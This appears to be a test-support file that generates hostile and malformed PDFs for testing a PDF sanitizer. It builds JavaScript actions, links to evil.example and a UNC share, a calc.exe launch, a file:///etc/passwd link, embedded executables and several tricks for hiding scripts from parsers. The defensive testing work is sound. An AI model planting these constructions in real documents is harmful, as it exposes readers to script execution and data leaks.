import { deflateSync } from 'node:zlib';
import { getDocumentProxy } from 'unpdf';
import { pdfOf, pdfPages, type PdfPart, smallPdf } from '#tests/support/small-files.ts';

/** A hostile file made by code, and what another reader finds in it: without that, a refusal proves nothing. */
export interface HostileFile {
  what: string;
  file: () => Buffer | Promise<Buffer>;
  /** What a reader that is not ours makes of it, in words that the case expects. */
  reader: (file: Buffer) => Promise<string> | string;
  finds: RegExp;
}

const catalog = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${more} >>`;
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const canary = /app\.alert\(1\)/;
const withPage = (more: string, ...others: PdfPart[]) => pdfOf([catalog(), pdfPages, page(more), ...others]);
const withCatalog = (more: string, ...others: PdfPart[]) => pdfOf([catalog(more), pdfPages, page(), ...others]);
const annotation = (more: string) => withPage(`/Annots [<< /Type /Annot /Rect [0 0 99 99] ${more} >>]`);
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`);

/** What pdf.js finds that acts, as JSON: scripts, addresses, files, forms. */
async function pdfJs(file: Buffer): Promise<string> {
  const pdf = await getDocumentProxy(new Uint8Array(file), { verbosity: 0 });
  const first = await pdf.getPage(1);
  const { info } = await pdf.getMetadata();
  return JSON.stringify([
    await pdf.getJSActions(),
    await first.getJSActions(),
    await first.getAnnotations(),
    await pdf.getAttachments(),
    await pdf.getOpenAction(),
    await pdf.getFieldObjects(),
    await pdf.getOutline(),
    info,
  ]);
}

/** The file as it lies there: what a reader of the whole standard acts on, where pdf.js does not. It opens in pdf.js, so it is a whole PDF. */
async function asItLies(file: Buffer): Promise<string> {
  await pdfJs(file);
  return file.toString('latin1');
}

const failure = (file: Buffer): Promise<string> =>
  pdfJs(file).then(
    () => 'opened',
    (error: Error) => `${error.name}: ${error.message}`,
  );

/** A PDF whose page's script is in a stream of objects, with a table of references that is a stream: `coded` is how the stream holds them. */
function inObjectStream(coded: { dictionary: string; data: Buffer }, places: [number: number, place: number][] = [[5, 0]]): Buffer {
  const parts: PdfPart[] = [catalog(), pdfPages, page('/AA 5 0 R'), coded];
  return referenced(parts, new Map(places.map(([number, place]) => [number, { stream: 4, place }])));
}

function referenced(parts: readonly PdfPart[], inStream: ReadonlyMap<number, { stream: number; place: number }>): Buffer {
  const plain = pdfOf(parts);
  const body = plain.subarray(0, plain.lastIndexOf('xref\n0 '));
  const own = parts.length + inStream.size + 1;
  const rows = [Buffer.from([0, 0, 0, 0, 0, 255, 255])];
  for (let number = 1; number < own; number++) {
    const row = Buffer.alloc(7);
    const hidden = inStream.get(number);
    row[0] = hidden === undefined ? 1 : 2;
    row.writeUInt32BE(hidden?.stream ?? body.indexOf(`\n${number} 0 obj`, 0, 'latin1') + 1, 1);
    row.writeUInt16BE(hidden?.place ?? 0, 5);
    rows.push(row);
  }
  const own7 = Buffer.alloc(7);
  own7[0] = 1;
  own7.writeUInt32BE(body.length, 1);
  const table = Buffer.concat([...rows, own7]);
  const head = `${own} 0 obj\n<< /Type /XRef /Size ${own + 1} /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`;
  return Buffer.concat([body, Buffer.from(head), table, Buffer.from(`\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`)]);
}

const opens = `<< /O ${script} >>`;
const objects = `5 0 ${opens}`;
const streamOf = (data: Buffer, more: string) => ({ dictionary: `/Type /ObjStm /N 1 /First 4 ${more}`, data });

/** Rows of four bytes, each with the filter Up before it (PNG), as `/Predictor 12` undoes them. */
function predicted(text: string): Buffer {
  const padded = Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4));
  const rows: Buffer[] = [];
  for (let at = 0; at < padded.length; at += 4)
    rows.push(
      Buffer.from([2, ...padded.subarray(at, at + 4).map((byte, place) => (byte - (at === 0 ? 0 : (padded[at - 4 + place] ?? 0))) & 255)]),
    );
  return Buffer.concat(rows);
}

/** A PDF whose table of references says that object 5, the page's script, is where `marked` begins. */
function pointing(parts: readonly PdfPart[], marked: string): Buffer {
  const plain = pdfOf([...parts.slice(0, 4), ...parts.slice(4)]);
  const place = plain.indexOf(marked);
  const tableAt = plain.lastIndexOf('xref\n0 ');
  const table = plain
    .toString('latin1', tableAt)
    .replace(/^0 (\d+)$/m, (_, count: string) => `0 ${Number(count) + 1}`)
    .replace('trailer', `${String(place).padStart(10, '0')} 00000 n \ntrailer`)
    .replace(/\/Size \d+/, `/Size ${parts.length + 2}`);
  return Buffer.concat([plain.subarray(0, tableAt), Buffer.from(table, 'latin1')]);
}

const hiddenObject = `5 0 obj ${opens} endobj`;

export const activePdfs: HostileFile[] = [
  { what: 'a script when it is opened', file: () => withCatalog(`/OpenAction ${script}`), reader: pdfJs, finds: canary },
  {
    what: 'a script by its name in a tree',
    file: () => withCatalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    reader: pdfJs,
    finds: canary,
  },
  { what: 'a script when its page is shown', file: () => withPage(`/AA ${opens}`), reader: pdfJs, finds: canary },
  {
    what: 'a script spelt by the numbers of its letters',
    file: () => withPage('/A#41 << /O << /S /Java#53cript /J#53 (app.alert\\(1\\)) >> >>'),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script of a field',
    file: () =>
      pdfOf([
        catalog('/AcroForm << /Fields [4 0 R] >>'),
        pdfPages,
        page('/Annots [4 0 R]'),
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /AA << /U ${script} >> >>`,
      ]),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'an address when its page is shown',
    file: () => withPage('/AA << /O << /S /URI /URI (https://evil.example/) >> >>'),
    reader: asItLies,
    finds: /\/AA << \/O << \/S \/URI/,
  },
  {
    what: 'an address when it is opened',
    file: () => withCatalog('/OpenAction 4 0 R', '<< /S /URI /URI (https://evil.example/) >>'),
    reader: asItLies,
    finds: /\/OpenAction 4 0 R/,
  },
  {
    what: 'an address behind the place that it opens at',
    file: () => withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>'),
    reader: asItLies,
    finds: /\/Next << \/S \/URI/,
  },
  {
    what: 'an address of a bookmark',
    file: () =>
      withCatalog(
        '/Outlines 4 0 R',
        '<< /Type /Outlines /First 5 0 R /Last 5 0 R >>',
        '<< /Title (x) /Parent 4 0 R /A << /S /URI /URI (https://evil.example/) >> >>',
      ),
    reader: pdfJs,
    finds: /evil\.example/,
  },
  {
    what: 'a file of another machine when its page is shown',
    file: () => withPage('/AA << /O << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >> >>'),
    reader: asItLies,
    finds: /\/S \/GoToR/,
  },
  {
    what: 'a link to a file of another machine',
    file: () => link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'),
    reader: pdfJs,
    finds: /evil\.example/,
  },
  {
    what: 'a link into a file in it',
    file: () => link('<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'),
    reader: asItLies,
    finds: /\/S \/GoToE/,
  },
  { what: 'a link that starts a program', file: () => link('<< /S /Launch /F (calc.exe) >>'), reader: pdfJs, finds: /calc\.exe/ },
  {
    what: 'a link that is a script',
    file: () => link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    reader: pdfJs,
    finds: /javascript:alert/,
  },
  {
    what: 'a link to a file of this machine',
    file: () => link('<< /S /URI /URI (file:///etc/passwd) >>'),
    reader: pdfJs,
    finds: /file:\/\/\/etc/,
  },
  {
    what: 'a button that sends a form',
    file: () => annotation('/Subtype /Widget /FT /Btn /T (b) /A << /S /SubmitForm /F (https://evil.example/) >>'),
    reader: asItLies,
    finds: /\/S \/SubmitForm/,
  },
  {
    what: 'a button that reads a file in',
    file: () => annotation('/Subtype /Widget /FT /Btn /T (b) /A << /S /ImportData /F (a.fdf) >>'),
    reader: asItLies,
    finds: /\/S \/ImportData/,
  },
  {
    what: 'a file in it',
    file: () =>
      withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', {
        dictionary: '/Type /EmbeddedFile',
        data: Buffer.from('MZ canary'),
      }),
    reader: pdfJs,
    finds: /a\.exe/,
  },
  {
    what: 'a file pinned to its page',
    file: () =>
      pdfOf([
        catalog(),
        pdfPages,
        page(
          '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >> >>]',
        ),
        { dictionary: '', data: Buffer.from('MZ') },
      ]),
    reader: pdfJs,
    finds: /a\.exe/,
  },
  { what: 'a film', file: () => annotation('/Subtype /RichMedia /RichMediaContent << >>'), reader: asItLies, finds: /RichMedia/ },
  {
    what: 'a film of another file',
    file: () => annotation('/Subtype /Movie /Movie << /F (https://evil.example/a.avi) >>'),
    reader: asItLies,
    finds: /\/Movie/,
  },
  {
    what: 'a form of another language',
    file: () =>
      withCatalog('/AcroForm << /Fields [] /XFA 4 0 R >>', {
        dictionary: '',
        data: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'),
      }),
    reader: pdfJs,
    finds: /"IsXFAPresent":true/,
  },
  {
    what: 'a stream that is another file',
    file: () => withPage('/Contents 4 0 R', { dictionary: '/F (\\\\\\\\evil.example\\\\share)', data: Buffer.from('') }),
    reader: asItLies,
    finds: /\/F \(\\\\\\\\evil/,
  },
  {
    what: 'a page of another file',
    file: () =>
      withPage('/Resources << /XObject << /X 4 0 R >> >>', {
        dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (b.pdf) /Page 0 >>',
        data: Buffer.from(''),
      }),
    reader: asItLies,
    finds: /\/Ref << \/F/,
  },
  { what: 'a password', file: () => smallPdfWithPassword(), reader: failure, finds: /PasswordException/ },
  { what: 'a script in a stream of objects', file: () => inObjectStream(streamOf(Buffer.from(objects), '')), reader: pdfJs, finds: canary },
  {
    what: 'a script in a deflated stream of objects',
    file: () => inObjectStream(streamOf(deflateSync(objects), '/Filter /FlateDecode')),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script in a stream of objects that does not say so',
    file: () => inObjectStream({ dictionary: '/N 1 /First 4 /Filter [/FlateDecode]', data: deflateSync(objects) }),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script behind a predictor',
    file: () =>
      inObjectStream(streamOf(deflateSync(predicted(objects)), '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>')),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script behind a short name of its predictor',
    file: () => inObjectStream(streamOf(deflateSync(predicted(objects)), '/F /FlateDecode /DP << /Predictor 12 /Columns 4 >>')),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script in hexadecimal',
    file: () => inObjectStream(streamOf(Buffer.from(`${Buffer.from(objects).toString('hex')}>`), '/Filter /ASCIIHexDecode')),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script behind a filter that is an object',
    file: () =>
      referenced(
        [
          catalog(),
          pdfPages,
          page('/AA 6 0 R'),
          { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 5 0 R', data: deflateSync(`6 0 ${opens}`) },
          '/FlateDecode',
        ],
        new Map([[6, { stream: 4, place: 0 }]]),
      ),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a script within a string of its stream',
    file: () =>
      inObjectStream({ dictionary: '/Type /ObjStm /N 2 /First 8', data: Buffer.from(`6 0 5 1 (${opens} 0 0 0)`) }, [
        [6, 0],
        [5, 1],
      ]),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a name that ends where the next object begins',
    file: () =>
      inObjectStream(
        {
          dictionary: '/Type /ObjStm /N 3 /First 13',
          data: Buffer.from(
            '5 0 6 54 7 65 << /O << /S 6 0 R /JS (app.alert\\(1\\)) >> >>'
              .padEnd(13 + 54)
              .concat('/JavaScript')
              .concat('X null'),
          ),
        },
        [
          [5, 0],
          [6, 1],
          [7, 2],
        ],
      ),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'an object in a string',
    file: () => pointing([catalog(), pdfPages, page('/AA 5 0 R'), `(${hiddenObject} 0 0 0)`], hiddenObject),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'an object in a comment',
    file: () => pointing([catalog(), pdfPages, page('/AA 5 0 R'), `null %${hiddenObject}`], hiddenObject),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'an object in a stream',
    file: () => pointing([catalog(), pdfPages, page('/AA 5 0 R'), { dictionary: '', data: Buffer.from(hiddenObject) }], hiddenObject),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'an object in a stream, its head broken by a comment',
    file: () =>
      pointing(
        [catalog(), pdfPages, page('/AA 5 0 R'), { dictionary: '', data: Buffer.from(`5 % 5\n 0 % 0\n obj ${opens} endobj`) }],
        '5 % 5\n',
      ),
    reader: pdfJs,
    finds: canary,
  },
  {
    what: 'a kind of action that is an object',
    file: () =>
      withPage(
        '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 4 0 R /URI 5 0 R >> >>]',
        '/URI',
        '(javascript:alert\\(1\\))',
      ),
    reader: pdfJs,
    finds: /javascript:alert/,
  },
  {
    what: 'a key twice, which two readers read in two ways',
    file: () => link('<< /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/) >>'),
    reader: asItLies,
    finds: /\/S \/GoTo.*\/S \/URI/,
  },
];

/** A document that asks for a password, as the product's own library writes one. */
async function smallPdfWithPassword(): Promise<Buffer> {
  const { default: PDFDocument } = await import('pdfkit');
  const document = new PDFDocument({ userPassword: 'canary' });
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const ended = new Promise((resolve) => document.on('end', resolve));
  document.text('A page.').end();
  await ended;
  return Buffer.concat(parts);
}

const head = (file: Buffer) => file.toString('latin1', 0, 300);

export const damagedPdfs: HostileFile[] = [
  { what: 'nothing but its first bytes', file: () => Buffer.from('%PDF-'), reader: failure, finds: /InvalidPDF|empty|Error/ },
  {
    what: 'a page of a browser',
    file: () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>'),
    reader: head,
    finds: /<script>/,
  },
  {
    what: 'an archive',
    file: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]),
    reader: head,
    finds: /PK\u0005\u0006/,
  },
  { what: 'no pages', file: () => pdfOf([catalog(), '<< /Type /Pages /Kids [] /Count 0 >>']), reader: failure, finds: /Error|Exception/ },
  {
    what: 'its first half',
    file: () => smallPdf('q Q '.repeat(100)).subarray(0, 350),
    reader: (file) => String(file.includes('%%EOF')),
    finds: /false/,
  },
  {
    what: 'a string without an end',
    file: () => Buffer.from(smallPdf('', '/X (').toString('latin1'), 'latin1'),
    reader: (file) => String(file.toString('latin1').split('(').length - file.toString('latin1').split(')').length),
    finds: /1/,
  },
];
